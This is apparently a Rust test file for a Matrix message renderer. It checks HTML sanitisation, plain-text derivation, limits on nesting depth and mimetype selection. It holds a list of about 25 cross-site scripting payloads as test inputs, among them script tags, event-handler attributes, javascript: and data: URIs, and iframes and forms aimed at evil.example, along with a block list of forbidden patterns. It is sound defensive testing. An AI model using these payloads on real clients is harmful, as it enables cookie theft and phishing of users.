//! HTML bodies through the renderer: hostile markup comes out sanitised to the Matrix
//! allow-list, and plain text derived from HTML keeps the words and the line breaks.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use common::{everything, render};
use exev::{Content, Event, TextBlock, TextRepresentation};
use exev_registry::{MAX_HTML_NESTING, Outcome, sanitize_html};

/// An `m.message` whose only representation is `html`.
fn html_message(html: &str) -> Event {
    let mut content = Content::new();
    content.set(&TextBlock::default().with_html(html));
    Event::new("m.message", content)
}

const HOSTILE: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    r#"<img src="mxc://a/b" onerror="alert(1)">"#,
    r#"<img src="javascript:alert(1)">"#,
    r#"<b onmouseover="alert(1)">hover</b>"#,
    r#"<a href="javascript:alert(1)">click</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">click</a>"#,
    r#"<a href="&#106;avascript:alert(1)">click</a>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>"#,
    r#"<a href="vbscript:msgbox(1)">vb</a>"#,
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<style>*{display:none}</style>",
    r#"<div style="position:fixed;top:0">overlay</div>"#,
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<svg onload=alert(1)><circle r=10></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    r#"<p><span data-mx-color="red;background:url(x)">c</span></p>"#,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<script>alert(1)</script>-->",
    "<table><tr><td background=javascript:alert(1)>cell</td></tr></table>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
];

const FORBIDDEN: &[&str] = &[
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<form",
    "<input",
    "<svg",
    "<math",
    "<meta",
    "<base",
    "<link",
    "javascript:",
    "vbscript:",
    "data:",
    "onerror",
    "onload",
    "onmouseover",
    "ontoggle",
    "style=",
    "background=",
    "alert(",
];

#[test]
fn hostile_html_comes_out_sanitised() {
    for html in HOSTILE {
        let r = render(&html_message(html), &everything());
        assert_eq!(r.outcome, Outcome::Rendered, "{html}");
        let clean = r.html.as_deref().unwrap();
        for bad in FORBIDDEN {
            assert!(
                !clean.to_ascii_lowercase().contains(bad),
                "{html} -> {clean} keeps {bad}"
            );
        }
        // Sanitising the output again changes nothing: it is already inside the allow-list.
        assert_eq!(sanitize_html(clean), clean, "{html}");
        // And the derived text holds none of the script either.
        assert!(!r.text.contains("alert("), "{html} -> {:?}", r.text);
    }
}

#[test]
fn allowed_markup_survives() {
    let html = concat!(
        r#"<h1>Title</h1><p>Some <b>bold</b>, <i>italic</i>, <del>gone</del>, <code class="language-rust">code</code>.</p>"#,
        r#"<blockquote>quoted</blockquote><ol start="3"><li>three</li></ol>"#,
        r#"<a href="https://matrix.org" target="_blank">link</a> <img src="mxc://example.org/cat" alt="cat" width="32">"#,
        r##"<span data-mx-spoiler="plot">secret</span><span data-mx-color="#00ff00">green</span>"##,
        "<table><thead><tr><th>k</th></tr></thead><tbody><tr><td>v</td></tr></tbody></table>",
        "<pre><code>x = 1</code></pre><hr><details><summary>more</summary>hidden</details>",
    );
    let r = render(&html_message(html), &everything());
    let clean = r.html.unwrap();
    for kept in [
        "<h1>Title</h1>",
        "<b>bold</b>",
        "<del>gone</del>",
        r#"<code class="language-rust">code</code>"#,
        "<blockquote>quoted</blockquote>",
        r#"<ol start="3">"#,
        r#"<a href="https://matrix.org" target="_blank" rel="noopener">link</a>"#,
        r#"<img src="mxc://example.org/cat" alt="cat" width="32">"#,
        r#"<span data-mx-spoiler="plot">secret</span>"#,
        r##"<span data-mx-color="#00ff00">green</span>"##,
        "<th>k</th>",
        "<pre><code>x = 1</code></pre>",
        "<hr>",
        "<summary>more</summary>",
    ] {
        assert!(clean.contains(kept), "{kept} missing from {clean}");
    }
    // The plain text is derived from the HTML, there being no plain representation.
    assert!(r.text_source.unwrap().from_html);
    assert_eq!(
        r.text,
        "Title\nSome bold, italic, gone, code.\nquoted\n3. three\nlink cat[spoiler: plot]green\nk\nv\nx = 1\nmore\nhidden"
    );
}

#[test]
fn derived_text_keeps_words_and_line_breaks() {
    let cases = [
        ("line one<br>line two", "line one\nline two"),
        (
            "<p>first paragraph</p><p>second paragraph</p>",
            "first paragraph\nsecond paragraph",
        ),
        (
            "<ul><li>apples</li><li>pears</li></ul>",
            "- apples\n- pears",
        ),
        ("<h2>Heading</h2>text after", "Heading\ntext after"),
        ("<h1>A</h1><h3>B</h3><p>C<br>D</p>", "A\nB\nC\nD"),
        (
            "word   spacing\tand\nnewlines in source",
            "word spacing and newlines in source",
        ),
        (
            "caf&eacute; &amp; cr&egrave;me &#x1F600;",
            "café & crème 😀",
        ),
        ("<b>Bold</b><i>Italic</i>", "BoldItalic"),
    ];
    for (html, text) in cases {
        assert_eq!(
            render(&html_message(html), &everything()).text,
            text,
            "{html}"
        );
    }
    // A plain representation wins over HTML for the plain text, wherever it stands.
    let mut content = Content::new();
    content.set(
        &TextBlock::default()
            .with_html("<b>rich</b>")
            .with(TextRepresentation::new("plain", None)),
    );
    let r = render(&Event::new("m.message", content), &everything());
    assert_eq!(r.text, "plain");
    assert_eq!(r.html.as_deref(), Some("<b>rich</b>"));
    assert!(!r.text_source.unwrap().from_html);
}

#[test]
fn over_deep_html_is_flattened_and_reported() {
    let html = format!(
        "{}deep<br>text{}",
        "<blockquote>".repeat(5_000),
        "</blockquote>".repeat(5_000)
    );
    let r = render(&html_message(&html), &everything());
    assert_eq!(r.text, "deep\ntext");
    assert_eq!(r.html.as_deref(), Some("deep<br>text"));
    assert!(
        r.skipped.iter().any(|s| s
            .reason
            .contains(&format!("deeper than {MAX_HTML_NESTING}"))),
        "{:?}",
        r.skipped
    );
}

#[test]
fn custom_text_mimetypes_are_chosen_only_when_named() {
    let mut content = Content::new();
    content.set(
        &TextBlock::default()
            .with(TextRepresentation::new("*bridged*", Some("text/x-irc")))
            .with(TextRepresentation::new("bridged", None)),
    );
    let event = Event::new("m.message", content);
    let source = render(&event, &everything()).text_source.unwrap();
    assert_eq!(
        (source.representation, source.mimetype.as_deref()),
        (Some(1), Some("text/plain"))
    );
    let irc = everything().mimetypes(["text/x-irc"]);
    let r = render(&event, &irc);
    let source = r.text_source.unwrap();
    assert_eq!(
        (source.representation, source.mimetype.as_deref()),
        (Some(0), Some("text/x-irc"))
    );
    assert_eq!(r.text, "bridged");
}
